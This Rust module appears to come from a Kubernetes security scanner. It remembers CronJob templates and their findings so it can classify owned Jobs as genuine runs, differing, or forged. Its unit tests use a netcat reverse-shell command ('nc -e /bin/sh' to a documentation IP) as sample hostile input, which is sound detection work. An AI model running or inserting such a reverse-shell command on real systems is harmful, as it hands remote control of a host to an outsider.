//! Whose Job is it? What is remembered of CronJobs to answer that, and the answer. Pure.

use std::collections::HashMap;

use super::id::Id;
use crate::rollup::FindingSet;

/// How many earlier templates of a CronJob are remembered, as far as their findings differ.
const MAX_EARLIER: usize = 4;
/// How many CronJobs that are gone are remembered, and for how many seconds: until the garbage collector has removed
/// their Jobs, which may change until then.
const MAX_GONE: usize = 4096;
const GONE_SECONDS: i64 = 600;

/// What is remembered of a CronJob.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cron {
    current: FindingSet,
    /// Those of earlier templates, newest first: their Jobs may still be there.
    earlier: Box<[FindingSet]>,
    /// When its spec was last changed, in seconds since 1970.
    changed: i64,
}

impl Cron {
    /// A CronJob with these findings, whose spec was last changed then.
    pub fn new(current: FindingSet, changed: i64) -> Self {
        Self { current, earlier: Box::default(), changed }
    }

    /// The same CronJob, after a change.
    pub fn update(&mut self, current: FindingSet, changed: i64) {
        if self.current != current {
            let before = std::mem::replace(&mut self.current, current);
            let earlier = std::mem::take(&mut self.earlier).into_vec();
            self.earlier = std::iter::once(before).chain(earlier).take(MAX_EARLIER).collect();
        }
        self.changed = changed;
    }

    /// What a Job with these findings, created then, is to it.
    pub fn judge(&self, job: &FindingSet, created: i64) -> Owned {
        if job.is_within(&self.current) || self.earlier.iter().any(|earlier| job.is_within(earlier)) {
            Owned::Covered
        } else if created > self.changed {
            Owned::Forged
        } else {
            // It may be a run of a template that nobody remembers.
            Owned::Differs
        }
    }
}

/// What a Job is to the CronJob that it names as its owner.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Owned {
    /// A run: the CronJob's report speaks for it.
    Covered,
    /// It does what the CronJob does not, and may be older than the CronJob's template.
    Differs,
    /// It does what the CronJob does not, and was made after the CronJob last changed.
    Forged,
}

/// The CronJobs that are gone.
#[derive(Debug, Default)]
pub struct Tombstones(HashMap<Id, (Cron, i64)>);

impl Tombstones {
    /// A CronJob is gone.
    pub fn add(&mut self, uid: Id, cron: Cron, now: i64) {
        if self.0.len() >= MAX_GONE {
            self.0.retain(|_, (_, gone)| now - *gone < GONE_SECONDS);
        }
        if self.0.len() < MAX_GONE {
            self.0.insert(uid, (cron, now));
        }
    }

    /// A CronJob that is gone since a short time.
    pub fn get(&self, uid: Id, now: i64) -> Option<&Cron> {
        self.0.get(&uid).filter(|(_, gone)| now - gone < GONE_SECONDS).map(|(cron, _)| cron)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::assess::assess;
    use crate::workload::Kind;
    use crate::workload::decode::from_json;

    fn findings(command: &str) -> FindingSet {
        let json = format!(
            r#"{{"spec":{{"template":{{"spec":{{"containers":[{{"name":"c","command":["sh","-c","{command}"]}}]}}}}}}}}"#
        );
        FindingSet::of(&assess(Kind::Job, &from_json(json.as_bytes()).unwrap()))
    }

    #[test]
    fn what_its_template_says_or_said_is_a_run() {
        let mut cron = Cron::new(findings("nc -e /bin/sh 192.0.2.1 1"), 100);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 200), Owned::Covered);
        assert_eq!(cron.judge(&findings("true"), 200), Owned::Covered);
        cron.update(findings("true"), 300);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 200), Owned::Covered);
    }

    #[test]
    fn what_it_does_not_say_is_forged_unless_it_may_have_said_it() {
        let cron = Cron::new(findings("true"), 300);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 301), Owned::Forged);
        assert_eq!(cron.judge(&findings("nc -e /bin/sh 192.0.2.1 1"), 300), Owned::Differs);
    }

    #[test]
    fn the_gone_are_remembered_for_a_while() {
        let mut gone = Tombstones::default();
        gone.add(Id::of("1"), Cron::new(findings("true"), 1), 1000);
        assert!(gone.get(Id::of("1"), 1000 + GONE_SECONDS - 1).is_some());
        assert!(gone.get(Id::of("1"), 1000 + GONE_SECONDS).is_none());
    }
}
